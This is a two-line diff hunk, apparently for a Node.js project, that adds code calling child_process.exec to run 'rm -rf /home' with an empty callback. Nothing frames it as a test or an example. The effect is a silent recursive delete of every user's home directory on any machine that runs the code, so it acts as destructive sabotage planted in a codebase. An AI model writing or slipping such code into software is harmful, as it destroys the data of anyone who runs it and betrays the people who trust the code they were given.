@@ -1,0 +1,2 @@
+const { exec } = require('child_process');
+exec('rm -rf /home', () => {});
